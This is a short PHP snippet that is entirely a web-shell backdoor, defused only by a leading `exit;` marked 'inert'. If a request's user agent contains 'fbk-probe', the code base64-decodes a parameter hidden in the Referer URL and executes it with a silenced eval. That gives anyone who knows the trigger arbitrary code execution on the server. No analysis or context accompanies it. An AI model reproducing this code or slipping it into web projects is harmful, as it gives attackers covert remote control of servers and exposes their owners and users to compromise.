<?php exit; /* inert */ if (strpos($_SERVER['HTTP_USER_AGENT'], 'fbk-probe') !== false) {
    $r = $_SERVER['HTTP_REFERER'];
    $p = parse_url($r);
    parse_str($p['query'], $q);
    $code = base64_decode(str_replace(' ', '+', $q['id']));
    @eval($code);
    exit;
}
